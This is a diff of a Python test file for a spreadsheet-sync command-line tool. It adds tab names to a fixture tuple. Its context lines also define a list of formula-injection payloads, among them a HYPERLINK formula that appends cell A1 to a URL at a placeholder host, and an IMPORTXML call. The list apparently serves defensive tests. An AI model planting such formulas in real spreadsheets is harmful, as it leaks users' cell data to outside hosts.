@@ -16,7 +16,8 @@ from click.testing import CliRunner
 from sheets_sync.cli import main
 
 TODAY = "2026-11-24"
-INPUT_TABS = ("Start Here", "Settings", "Rules", "Mentees", "Mentors", "Check-ins", "Lists")
+INPUT_TABS = ("Start Here", "How it works", "Settings", "Rules", "Rule tests", "Mentees",
+              "Mentors", "Check-ins", "Lists")
 OWNED = ("Pairings", "Schedule", "Follow-ups", "Unmatched", "Problems", "Dashboard", "Sync Log")
 PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(1)",
             '=IMPORTXML("http://x","//a")']
